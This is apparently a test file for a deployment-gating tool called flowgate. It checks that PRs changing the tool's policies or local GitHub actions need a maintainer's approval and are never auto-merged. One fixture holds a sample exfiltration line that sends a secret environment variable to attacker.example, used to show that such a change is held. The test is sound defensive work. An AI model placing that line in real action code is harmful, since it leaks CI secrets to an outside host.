import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { type Harness, planResult, seedRepo, startHarness } from "../../support/harness.js";
import { issueCommentEvent, reviewEvent } from "../../support/webhooks.js";
import { openPull, PRODUCTION_POLICY, stackDoc, sticky, waitForAggregate } from "./support.js";

const STACK = stackDoc("billing-db", "production", "infra/prod/billing-db");
const RELAXED = `apiVersion: flowgate/v1
kind: FlowControlPolicy
metadata: { name: production-relaxed }
spec:
  selector: { kind: environment, id: production }
  flowControl:
    previewBeforeUpdateOrDestroy: true
    pauseBetweenPreviewAndUpdateOrDestroy: false
    autoMerge: { enabled: true }
`;

describe("a PR that changes flowgate's own configuration", () => {
  let h: Harness;
  beforeEach(async () => {
    h = await startHarness();
  });
  afterEach(async () => {
    await h.stop();
  });

  it("is judged by the default branch's policy and needs a maintainer's approval as a configuration change", async () => {
    const repo = seedRepo(h.gh, {
      ".github/flowgate/stacks.yml": STACK,
      ".github/flowgate/policies.yml": PRODUCTION_POLICY,
      "infra/prod/billing-db/main.tf": "# db\n",
    });
    h.gh.setPermission(repo.fullName, "alice", "write");
    h.gh.setPermission(repo.fullName, "bob", "write");
    h.gh.setPermission(repo.fullName, "carol", "write");
    h.gh.setPermission(repo.fullName, "mona", "maintain");
    const { pull, head } = await openPull(h, repo, "relax", {
      ".github/flowgate/policies.yml": RELAXED,
      "infra/prod/billing-db/main.tf": "# bigger db\n",
    });

    const dispatch = await h.waitFor(() => h.gh.dispatches(repo.fullName)[0], "the plan dispatch");
    await h.gh.completeRun(repo.fullName, dispatch.runId, {
      conclusion: "success",
      result: planResult(dispatch),
    });
    const planned = await h.waitFor(() => {
      const c = sticky(h, repo, pull.number)[0];
      return c?.body.includes("+1 ~2 -0") ? c : undefined;
    }, "the sticky comment with the plan");
    // The default branch's policy, with its file and line; the PR's relaxed policy does nothing.
    expect(planned.body).toContain("production-careful (.github/flowgate/policies.yml:");
    // What the change would do once merged is shown apart, and only there.
    const [judged, explained] = planned.body.split("**What this change would do**");
    expect(judged).not.toContain("production-relaxed");
    expect(explained).toMatch(/`billing-db`: policy production-careful \(\S+\) becomes production-relaxed/);
    expect(explained).toMatch(/approvals 2 approvals becomes none/);
    expect(explained).toMatch(/auto-merge off becomes on/);
    expect(planned.body).toContain("0 of 2");
    expect(planned.body).toMatch(/Configuration change/);
    let check = await waitForAggregate(h, repo, head, "in_progress");
    expect(check.output.summary).toContain("production-careful (.github/flowgate/policies.yml:");
    expect(check.output.summary).not.toContain("production-relaxed");
    expect(check.output.title).toMatch(/configuration change needs approval/);
    expect(check.output.title).toMatch(/billing-db \(approvals\)/);
    expect(h.gh.autoMergeRequests(repo.fullName)).toEqual([]);

    // Two writers approve the stack by review: the stack is ready, the configuration change still waits for a maintainer.
    for (const login of ["bob", "carol"])
      await h.gh.sendWebhook("pull_request_review", reviewEvent(h.gh, pull, { login, state: "APPROVED" }));
    check = await h.waitFor(() => {
      const c = waitForAggregateNow(h, repo.fullName, head);
      return c && !/billing-db/.test(c.output.title ?? "") ? c : undefined;
    }, "the stack approvals to count");
    expect(check.status).toBe("in_progress");
    expect(check.output.title).toMatch(/configuration change needs approval/);
    // The plan is approved: its Approve button goes away.
    const planCheck = h.gh
      .checkRuns(repo.fullName, { headSha: head, name: "flowgate/plan: billing-db" })
      .at(-1)!;
    expect(planCheck.output.summary).toMatch(/2 of 2/);
    expect(planCheck.actions).toEqual([]);

    await h.gh.sendWebhook(
      "issue_comment",
      issueCommentEvent(h.gh, pull, { login: "mona", body: "/approve" }),
    );
    const passed = await waitForAggregate(h, repo, head, "success");
    expect(passed.output.title).toBe("1 stack ready");
    // Never merged automatically, whatever the PR's own policy says.
    expect(h.gh.autoMergeRequests(repo.fullName)).toEqual([]);
    expect(h.gh.merges(repo.fullName)).toEqual([]);
  });

  it("counts a change to a local action the workflows run (.github/actions/**) as a configuration change", async () => {
    const repo = seedRepo(h.gh, {
      ".github/flowgate/stacks.yml": STACK,
      ".github/actions/flowgate-summarize/action.yml": "name: flowgate-summarize\n",
      "infra/prod/billing-db/main.tf": "# db\n",
    });
    h.gh.setPermission(repo.fullName, "alice", "write");
    h.gh.setPermission(repo.fullName, "bob", "write");
    h.gh.setPermission(repo.fullName, "mona", "maintain");
    const { pull, head } = await openPull(h, repo, "action", {
      ".github/actions/flowgate-summarize/index.cjs":
        "require('https').get('https://attacker.example/' + process.env.SECRET)\n",
    });
    const held = await waitForAggregate(h, repo, head, "in_progress");
    expect(held.output.summary).toContain("configuration change needs approval");
    // write permission is not enough; a maintainer's approval is
    await h.gh.sendWebhook(
      "issue_comment",
      issueCommentEvent(h.gh, pull, { login: "bob", body: "/approve" }),
    );
    await h.gh.sendWebhook(
      "issue_comment",
      issueCommentEvent(h.gh, pull, { login: "mona", body: "/approve" }),
    );
    const passed = await waitForAggregate(h, repo, head, "success");
    expect(passed.output.summary).toContain(
      "1 of 1 approval (mona); refused: bob (needs maintain permission, has write)",
    );
  });
});

function waitForAggregateNow(h: Harness, repo: string, head: string) {
  return h.gh.checkRuns(repo, { headSha: head, name: "flowgate" }).at(-1);
}
